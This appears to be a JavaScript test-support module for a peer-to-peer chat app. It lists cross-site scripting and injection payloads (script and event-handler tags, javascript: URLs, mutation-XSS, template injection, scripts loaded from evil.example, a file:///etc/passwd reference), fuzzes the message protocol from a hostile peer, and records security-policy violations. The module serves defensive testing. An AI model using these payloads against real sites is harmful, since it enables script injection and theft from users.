// Somebody who holds the link and means harm: a page of ours that says whatever it is told to. And what no page may do or
// become whatever it is told: run, load or show as anything but text what came from outside.
import { Scribe } from './scribe.mjs';

/** Text that would be more than text on a careless page. Any script that runs sets `broken_in`. */
export const payloads = [
  '<img src=x onerror=broken_in=1>',
  '<svg/onload=broken_in=2>',
  '"><script>broken_in=3</script>',
  "' onmouseover='broken_in=4",
  '</span></p></li><script src=//evil.example/x.js></script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=broken_in=5&gt;">',
  '<a href="javascript:broken_in=6">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe srcdoc="<script>parent.broken_in=7</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<template shadowrootmode=open><script>broken_in=8</script></template>',
  '--></title></textarea></noscript><script>broken_in=9</script>',
  ']]><![CDATA[<script>broken_in=10</script>',
  '{{constructor.constructor("broken_in=11")()}}',
  '${broken_in=12} #{broken_in=13} <%= broken_in=14 %>',
  '%3Cimg%20src%3Dx%20onerror%3Dbroken_in%3D15%3E',
  '&lt;script&gt;broken_in=16&lt;/script&gt; &#60;b&#62; \\u003cb\\u003e \\x3cb\\x3e',
  'javascript:broken_in=17//',
  'JaVaScRiPt:broken_in=18 java\tscript:broken_in=19 vbscript:x',
  'data:text/html,<script>broken_in=20</script> blob:null/x file:///etc/passwd view-source:x',
  'https://a.example/"onmouseover="broken_in=21 http://a.example/<script>broken_in=22</script>',
  'https://javascript:broken_in=23@a.example/ https://a.example\\@evil.example/ http://',
  'mailto:a@b.example?subject=<b>&body=%0d%0abcc:c@d.example',
  '\u202egnp.exe \u2066\u2067\u2068x \u202dhttps://moc.elpmaxe\u202c',
  '\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u{e0041}\u{e007f}',
  '\u0001\u0007\u001b[31mred\u001b[0m\u007f\u0085\u009b',
  `Z${'\u0300\u0489\u20dd'.repeat(200)}`,
  '__proto__ constructor toString [object Object] undefined null NaN',
  '\n'.repeat(600) + 'below',
  'W'.repeat(10_000),
  '\u{1f3f4}\u{e0067}\u{e007f}'.repeat(2_000),
  '\u0645\u0631\u062d\u0628\u0627 <b>\u0628\u0627\u0644\u0639\u0627\u0644\u0645</b>',
  'http://a.example '.repeat(580),
];

/** Those of which something can be seen. The others are no messages. */
export const readable = payloads.filter(it => /[^\p{Default_Ignorable_Code_Point}\p{Cc}\s]/u.test(it));

/** The same as names. */
export const name_payloads = payloads
  .map(it => [...it.trim()].slice(0, 24).join(''))
  .filter((it, at, all) => it.trim() && all.indexOf(it) === at);

/** Before the scripts of a hostile page: its channels are at hand. */
export function hostile() {
  globalThis.channels = [];
  const create = RTCPeerConnection.prototype.createDataChannel;
  RTCPeerConnection.prototype.createDataChannel = function (...how) {
    const channel = create.apply(this, how);
    globalThis.channels.push(channel);
    return channel;
  };

  /** Says these texts to everybody, as fast as the channels take them. @param {string[]} texts */
  globalThis.say_raw = async texts => {
    const deadline = Date.now() + 300_000;
    for (const text of texts) {
      for (const channel of globalThis.channels) {
        while (channel.readyState === 'open' && channel.bufferedAmount > 1_000_000) {
          if (Date.now() > deadline) throw new Error('the channel does not take the words');
          await new Promise(resolve => setTimeout(resolve, 5));
        }
        if (channel.readyState === 'open') channel.send(text);
      }
    }
  };
}

/**
 * Nonsense of all kinds, always the same, between messages that can be read. No goodbye, and no new connection: those would only
 * end the story.
 * @param {number} count  of words
 * @param {import('./scribe.mjs').Scribe} scribe
 * @returns {{words: string[], messages: number}}  `messages`: how many are among them
 */
export function nonsense(count, scribe) {
  let seed = 20_260_101;
  const below = limit => {
    seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((seed / 2 ** 32) * limit);
  };
  const one_of = list => list[below(list.length)];
  const odd = () =>
    one_of([null, true, -1, 1.5, 1e300, 2 ** 53 + 2, '', '1', [], {}, [[]], { is: 'heads' }, 'x'.repeat(below(200)), payloads[below(12)]]);
  let messages = 0;
  const kinds = [
    () => String.fromCodePoint(...Array.from({ length: 1 + below(60) }, () => below(0xd800))),
    () => new Scribe(scribe.link).says('cut off').slice(0, below(400)),
    () => '['.repeat(below(400)) + ']'.repeat(below(400)),
    () => '{"is":'.repeat(below(80)),
    () => JSON.stringify(odd()),
    () =>
      JSON.stringify({
        is: one_of(['entries', 'heads', 'wanted', 'status', 'offer', 'answer', 'candidate', 'again', 'tampered', 'nothing', '__proto__']),
        [one_of(['feed', 'heads', 'link', 'bodies'])]: odd(),
      }),
    () =>
      JSON.stringify({ ...JSON.parse(new Scribe(scribe.link).says('altered')), [one_of(['feed', 'first', 'before', 'bodies'])]: odd() }),
    () => new Scribe(scribe.link).says('altered').replace('altered', 'ALTERED'),
    () => scribe.writes(JSON.stringify({ is: one_of(['message', 'edit', 'poll', 'vote', 'pin', 'topic']), text: odd(), stamp: odd() })),
    () => scribe.writes(JSON.stringify(odd())),
    () => new Scribe(scribe.link).writes(`{"is":"message","text":"x","stamp":${one_of(['-0', '1e999', '18446744073709551616', '01'])}}`),
    () => `{"is":"wanted","feed":"AAAAAAAAAAAAAAAAAAAAAA","first":${one_of(['0', '-0', '1e999', '2'])},"last":${one_of(['1', '3', '01'])}}`,
    () => JSON.stringify({ is: 'heads', heads: [{ feed: 'A'.repeat(22), first: 1, count: one_of([0, 1, 2 ** 53, -1, below(1e6)]) }] }),
    () => JSON.stringify({ is: 'status', in_call: odd(), microphone: odd(), camera: odd(), screen: odd() }),
    () => JSON.stringify({ is: 'candidate', link: below(3), candidate: payloads[below(12)], mid: String(below(9)), line: below(70) }),
    () =>
      JSON.stringify({
        is: one_of(['offer', 'answer']),
        link: below(3),
        round: below(3),
        sdp: `v=0\r\na=fingerprint:${payloads[below(12)]}`,
      }),
  ];
  const words = Array.from({ length: count }, (_, at) => {
    if (at % 1_000 === 999) return 'x'.repeat(120_000);
    if (at % 250 === 0)
      return JSON.stringify({ is: 'status', in_call: at % 500 === 0, microphone: true, camera: true, screen: at % 500 === 0 });
    if (at % 16 !== 0) return one_of(kinds)();
    messages += 1;
    return scribe.says(
      payloads[messages - 1] ?? `${one_of(payloads.slice(0, 30))} ${messages}`,
      one_of([0, Date.now(), Date.now() + below(1e6)]),
    );
  });
  return { words, messages };
}

/** Before the scripts of an honest page: writes down what its rules of content security refused. */
export function watchful() {
  globalThis.violations = [];
  addEventListener('securitypolicyviolation', it => globalThis.violations.push(`${it.violatedDirective} ${it.blockedURI}`));
}

/**
 * The parts of a page: each kind of element with the names of its attributes (but for those by which it says its state), and the
 * schemes of what it refers to. The same whatever anybody says.
 */
export const shape_of = person =>
  person.page.evaluate(() => {
    const kinds = new Set();
    for (const at of document.querySelectorAll('*')) {
      kinds.add(at.localName);
      for (const { name, value } of at.attributes) {
        // (The rules of content security refuse a style that stands in markup, and say so.)
        if (/^(data-|aria-|(style|hidden|tabindex|disabled)$)/.test(name)) continue;
        kinds.add(`${at.localName}[${name}]`);
        // An attribute that is no address leads nowhere.
        if (
          ['href', 'src', 'srcdoc', 'action', 'formaction', 'poster', 'data', 'srcset', 'xlink:href'].includes(name) &&
          URL.canParse(value, location.href)
        ) {
          kinds.add(`${at.localName}[${name}] ${value.startsWith('#') ? '#' : new URL(value, location.href).protocol}`);
        }
      }
    }
    return [...kinds];
  });
